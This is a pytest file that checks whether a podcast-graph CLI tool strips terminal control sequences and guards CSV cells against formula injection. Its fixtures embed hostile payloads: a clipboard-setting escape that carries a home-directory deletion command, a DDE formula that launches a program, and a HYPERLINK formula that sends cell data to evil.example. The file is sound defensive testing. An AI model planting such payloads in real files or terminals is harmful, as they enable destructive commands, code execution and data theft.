"""Nothing leaked: data never reaches the terminal as control sequences, nor a spreadsheet as formulas."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from castgraph.cli import main
from castgraph.graph.model import Resolution, ReviewPair
from castgraph.graph.networkx_store import read_graph_json
from castgraph.resolve.output import read_review_csv, write_review_csv

OSC52 = "\x1b]52;c;cm0gLXJmIH4=\x07"  # sets the clipboard
HOSTILE = f"Evil{OSC52}\x1b[2J\x9b31m\r\x08\x00\x7fName"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture
def hostile_graph(tmp_path: Path) -> Path:
    records = [
        {"id": f"ep{HOSTILE}", "title": f"Title {HOSTILE}", "show": "S", "published": "2026-11-20",
         "summary": HOSTILE, "tags": [f"#t{HOSTILE}"],
         "chapters": [{"title": f"Chapter {HOSTILE}", "start": 5, "summary": HOSTILE}],
         "entities": [{"name": f"Kyle {HOSTILE}", "type": "Person", "description": HOSTILE},
                      {"name": "GitHub", "type": "Organization", "description": OSC52}]},
        {"id": "ep2", "title": "Second", "show": "S",
         "entities": [{"name": f"Kyle {HOSTILE}", "type": "Person"},
                      {"name": "GitHub", "type": "Organization"}]},
        {"id": "ep3", "title": "Third", "show": "S", "entities": [{"name": "Other", "type": "Person"}]},
        # The same id again: the duplicate warning names the id, from the data.
        {"id": f"ep{HOSTILE}", "title": "Dup", "show": "S"},
    ]
    src = tmp_path / "hostile.jsonl"
    src.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["build", str(src), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert not CONTROL.search(result.output), repr(result.output)
    assert "duplicate of episode" in result.output
    write_review_csv(Resolution(review=[ReviewPair(left_id="entity:a", left_name=HOSTILE, right_id="entity:b",
                                                   right_name="=cmd|' /C calc'!A0", score=0.9,
                                                   reason=HOSTILE)]), out / "review.csv")
    return out


@pytest.mark.parametrize("args", [
    ["entity", "Kyle"], ["entity", "GitHub", "--json"], ["entity", "GitHub"],
    ["related", "Second"], ["related", "Second", "--json"], ["related", "--entity", "GitHub"],
    ["comention"], ["comention", "--json", "--key-players", "3"], ["comention", "--key-players", "3"],
    ["resolve", "--explain", "Kyle"], ["resolve", "--review"],
    ["entity", f"Kyle {HOSTILE}x"], ["related", f"nothing{OSC52}"],
])
def test_no_control_character_reaches_the_terminal(hostile_graph: Path, args: list[str]) -> None:
    graph_flag = ["--graph", str(hostile_graph)]
    result = CliRunner().invoke(main, [*args, *graph_flag])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.output.strip()
    assert not CONTROL.search(result.output), repr(result.output)
    if "--json" in args:
        text = json.dumps(json.loads(result.output), ensure_ascii=False)
        assert "Kyle" in text or "GitHub" in text or "Second" in text


def test_json_output_keeps_the_data_exactly(hostile_graph: Path) -> None:
    result = CliRunner().invoke(main, ["entity", "GitHub", "--json", "--graph", str(hostile_graph)])
    profile = json.loads(result.output)
    assert profile["description"] == OSC52
    assert profile["comentioned"][0]["name"].startswith(f"Kyle Evil{OSC52}\x1b[2J\x9b31m")


def test_spreadsheet_csvs_guard_formulas_and_graph_json_keeps_the_names(tmp_path: Path) -> None:
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "'=quoted",
             "Normal Name"]
    src = tmp_path / "f.jsonl"
    src.write_text(json.dumps({"id": "e1", "title": "T", "entities": [{"name": n, "type": "Product"}
                                                                         for n in names]}) + "\n")
    out = tmp_path / "out"
    assert CliRunner().invoke(main, ["build", str(src), "--out", str(out), "--no-html"]).exit_code == 0
    with (out / "resolution.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [row[c] for row in rows for c in ("name", "surface")]
    assert cells and not [c for c in cells if c[:1] in "=+-@"]
    assert {row["surface"] for row in rows} == {"'" + n for n in names[:5]} | {"Normal Name"}
    graph = read_graph_json(out / "graph.json")
    assert sorted(a["name"] for _, a in graph.nodes(data=True) if a.get("label") == "Entity") == sorted(names)


def test_review_csv_round_trips_guarded_cells(tmp_path: Path) -> None:
    pair = ReviewPair(left_id="entity:a", left_name="=1+2", right_id="entity:b", right_name="''-x",
                      score=0.85, reason="@because")
    write_review_csv(Resolution(review=[pair]), tmp_path / "review.csv")
    text = (tmp_path / "review.csv").read_text()
    assert "'=1+2" in text and "'''-x" in text and "'@because" in text
    assert read_review_csv(tmp_path / "review.csv") == [pair]
